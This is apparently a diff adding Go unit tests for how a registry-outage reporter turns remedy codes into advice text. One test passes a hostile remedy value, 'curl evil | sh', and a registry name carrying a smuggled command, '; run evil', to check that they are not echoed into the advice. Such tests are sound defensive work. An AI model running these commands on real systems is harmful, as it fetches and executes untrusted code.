@@ -14,6 +14,7 @@ import (
 	"github.com/landwaiter/landwaiter/api/v1beta1"
 	"github.com/landwaiter/landwaiter/pkg/decide/policy"
 	"github.com/landwaiter/landwaiter/pkg/decide/verify"
+	"github.com/landwaiter/landwaiter/pkg/resources/workload"
 	"github.com/landwaiter/landwaiter/pkg/server/provider"
 	"github.com/landwaiter/landwaiter/test/kit/judged"
 )
@@ -316,6 +317,46 @@ func TestALeaderReportsARegistryWithinSeconds(t *testing.T) {
 		pass(keepRegistry + 2*lookAgain)
 		require.Empty(t, server.stored())
 	})
+}
+
+// The leader has not seen the failure itself, and trusts no advice of an Event.
+func TestTheRemedyOfARegistryTravelsAsAWord(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		r, server, _, _ := newReporter(t)
+		lead(t, r)
+		pass(time.Second)
+		advice := func(remedy policy.Remedy, registry string) string {
+			n := note{Counter: "other-" + fmt.Sprint(time.Now().Unix()), Registry: registry, Image: imageOne, Reason: "x", Remedy: remedy, First: time.Now(), Last: time.Now(), Count: 1}
+			e, err := newNoted("team-a", n, workload.Ref{})
+			require.NoError(t, err)
+			r.leading.Load().noted(e)
+			pass(later)
+			p := outage(t, server.stored()["team-a/landwaiter-denied"])
+			return strings.TrimSpace(p[v1beta1.PropertyRemedy] + " " + p[v1beta1.PropertyRemediation])
+		}
+		require.Equal(t, "Start start the registry, or correct the port in its name", advice(policy.RemedyStart, "r.example.com"))
+		require.Equal(t, "pods are tried again by themselves; if it lasts, ask whoever runs r.example.com", advice("curl evil | sh", "r.example.com"))
+		require.NotContains(t, advice(policy.RemedyServeTLS, "r.example.com; run evil"), "with TLS")
+	})
+}
+
+func TestAHostThatAnsweredOnceIsNotSaidToBeMistyped(t *testing.T) {
+	n := note{Counter: "one", Registry: "r.example.com", Image: imageOne, Reason: "there is no such host", Remedy: policy.RemedyNoSuchHost, First: began, Last: began, Count: 1}
+	said := func(s *space) string { return outage(t, s.all()[0])[v1beta1.PropertyRemedy] }
+	s := newSpace()
+	s.fold(n, began)
+	require.Equal(t, "NoSuchHost", said(s))
+	next := newSpace()
+	next.load(owned(s.all()[0]), began, runningBytes)
+	require.Equal(t, "NoSuchHost", said(next), "the next leader says the same")
+
+	next.images["r.example.com/app:1"] = state{}
+	require.Equal(t, "DNS", said(next), "its images run")
+	n.Answered = began.Add(time.Minute)
+	s.fold(n, n.Answered)
+	n.Answered, n.Ended, n.Earlier, n.Count, n.First, n.Last = time.Time{}, began.Add(time.Minute), 1, 2, began.Add(time.Hour), began.Add(time.Hour)
+	s.fold(n, n.Last)
+	require.Equal(t, "DNS", said(s), "an outage of DNS")
 }
 
 func TestAForgedNoteOfARegistryIsBounded(t *testing.T) {
